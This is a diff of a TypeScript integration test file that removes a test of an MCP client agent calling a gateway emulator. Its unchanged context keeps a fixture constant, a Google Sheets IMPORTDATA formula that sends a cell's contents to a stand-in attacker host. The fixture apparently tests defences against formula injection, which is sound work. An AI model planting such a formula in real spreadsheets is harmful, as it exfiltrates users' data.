@@ -4,7 +4,6 @@ import { before, describe, test } from 'node:test';
 
 import type { LedgerEntry } from '../../../emulator/emulator.mts';
 import { mediaFile } from '../../../emulator/media/mediaRoute.mts';
-import { createBearerToken } from '../harness/credentials.mts';
 import {
 	executeByWebhook,
 	executeWorkflow,
@@ -22,10 +21,9 @@ import { sha256 } from '../harness/sha256.mts';
 import { until } from '../harness/until.mts';
 import { activate, deactivate, saveWorkflow } from '../harness/workflows.mts';
 import type { Workflow } from '../harness/workflows.mts';
-import { API_KEY } from '../harness/world.mts';
 
-/** An agent that calls the gateway by itself, and what an execution starts that has failed. */
-const WITHOUT_OUR_NODE = ['mcp-client-agent', 'tell-what-failed'];
+/** What an execution starts that has failed. */
+const WITHOUT_OUR_NODE = ['tell-what-failed'];
 
 /** A title that Google Sheets runs if it takes it for what a person typed. */
 const FORMULA = '=IMPORTDATA("https://attacker.example/?"&A1)';
@@ -378,33 +376,6 @@ export function testExamples(world: RegularMode): void {
 			);
 			assert.match(model.answers()[0]!, /"keyword"/);
 			assert.match(model.answers().at(-1)!, /Max Cost/);
-		});
-
-		test('mcp-client-agent', async () => {
-			fresh();
-			const { emulator, model, rest } = world;
-			const id = await createBearerToken(rest, API_KEY, 'Key of the gateway');
-			const endpoint = '/api/v1/photos/v1/fetch_user_posts_v2';
-			model.plays(
-				[{ tool: /inspect$/, input: { endpoint } }],
-				[{ tool: /run$/, input: { endpoint, input: { user_id: 'size-3' } } }],
-				'Three posts.',
-			);
-			const execution = await run(
-				changed(example('mcp-client-agent'), 'Gateway over MCP', {
-					parameters: { endpointUrl: `${emulator.url}/mcp` },
-					credentials: { httpBearerAuth: { id, name: 'Key of the gateway' } },
-				}),
-			);
-			assert.equal(execution.status, 'success', execution.error?.message);
-			assert.deepEqual(execution.json('Result'), [{ answer: 'Three posts.' }]);
-			assert.deepEqual(
-				emulator.ledger.map(({ over, key, charged }) => [over, key, charged]),
-				[['mcp', 'size-3', 0.0015]],
-			);
-			const [told, ran] = model.answers();
-			assert.match(told!, /user_id/);
-			assert.match(ran!, new RegExp(emulator.ledger[0]!.recordIds.join('.*')));
 		});
 
 		test('many-keywords-from-a-sheet', async () => {
